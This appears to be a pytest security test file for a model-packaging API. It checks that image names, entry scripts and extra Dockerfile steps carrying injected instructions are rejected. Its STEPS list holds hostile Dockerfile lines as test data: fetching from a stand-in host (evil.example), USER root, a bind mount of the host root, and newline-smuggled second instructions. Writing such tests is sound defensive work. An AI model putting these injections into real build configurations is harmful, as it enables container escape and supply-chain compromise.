"""Fields of a package that want to be commands, lines of its Dockerfile, templates or other images."""

from __future__ import annotations

import pytest

from tests.attack.test_environment_fields import BREAKS, TEMPLATES
from tests.support.problems import assert_problem, paths_of
from tests.support.registry import environment, node, register, snapshot

STEPS = [
    *("FROM evil.example/x", "COPY --from=evil.example/x / /", "ADD https://evil.example/x /", "USER root", "CMD x"),
    *("ENTRYPOINT x", "# syntax=evil.example/x", "RUN --mount=type=bind,source=/,target=/host x", "RUN <<E\nx\nE"),
    *("RUN x \\\nUSER root \\", "RUN x\n\\\nUSER root", "ONBUILD RUN x", "RUN x\rUSER root", "RUN x\x0bUSER root"),
]


@pytest.fixture
def body(api, workspace, w):
    """What asks for a package, and is taken."""
    node(api, "attacked-node")
    register(api.admin, w, "ridge", {"m.pkl": b"bytes of a model"})
    environment(api, workspace)
    digest = snapshot(api.admin, w, {"score.py": b"def run(x): return x"})["digest"]
    return {
        "models": ["ridge:1"],
        "inference_config": {"entry_script": "score.py", "snapshot": digest, "environment": "env:1"},
    }


@pytest.mark.parametrize("text", [*BREAKS, *TEMPLATES, "../x", "x:1", "x@sha256:" + "0" * 64, "r.example:5000/x"])
@pytest.mark.parametrize("field", ["image_name", "image_label"])
def test_a_name_is_never_more_than_a_name(api, w, body, field, text):
    problem = assert_problem(api.admin.post(f"{w}/packages", json={**body, field: text}), "invalid-request")

    assert paths_of(problem) == [f"body.{field}"]


@pytest.mark.parametrize("text", STEPS)
def test_steps_reach_nothing_but_the_image_itself(api, w, body, text):
    config = {**body["inference_config"], "extra_docker_file_steps": text}

    problem = assert_problem(
        api.admin.post(f"{w}/packages", json={**body, "inference_config": config}), "invalid-request"
    )

    assert paths_of(problem) == ["body.inference_config.extra_docker_file_steps"]


@pytest.mark.parametrize("text", BREAKS)
def test_a_script_is_a_file_of_its_snapshot(api, w, body, text):
    config = {**body["inference_config"], "entry_script": f"{text}.py"}

    assert_problem(api.admin.post(f"{w}/packages", json={**body, "inference_config": config}), "invalid-request")
